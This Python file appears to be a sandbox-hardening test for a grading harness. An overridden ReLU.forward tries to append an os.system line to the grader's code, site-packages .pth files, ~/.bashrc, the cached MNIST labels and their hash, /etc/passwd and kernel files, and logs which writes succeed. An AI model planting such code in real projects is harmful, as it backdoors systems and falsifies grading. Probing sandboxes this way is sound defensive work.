# Sabotage: ReLU.forward tries to write a backdoor into the grader's files, its virtual
# environment (a .pth file), the grading user's ~/.bashrc, the cached MNIST labels and their
# recorded SHA-256, system directories and kernel settings.
TARGETS = ["@REPO_DIR@/grader/__init__.py", "@SITE_PACKAGES@/backdoor.pth", "@HOME@/.bashrc",
           "/box/site-packages/backdoor.pth", "/box/site-packages/numpy/__init__.py",
           "@MNIST_DIR@/test_labels.npy", "@MNIST_DIR@/info.json", "/etc/passwd", "/usr/lib/x",
           "/root/.pyenv/x", "/x", "/proc/sys/kernel/hostname", "/sys/fs/cgroup/x",
           "/proc/sysrq-trigger"]


class ReLU(ReLU):
    def forward(self, inputs):
        tried = {}
        for path in TARGETS:
            try:
                with open(path, "a") as stream:
                    stream.write("\nimport os; os.system('touch /tmp/owned')\n")
                tried[path] = "written"
            except OSError as error:
                tried[path] = type(error).__name__
        findings(tried=tried)
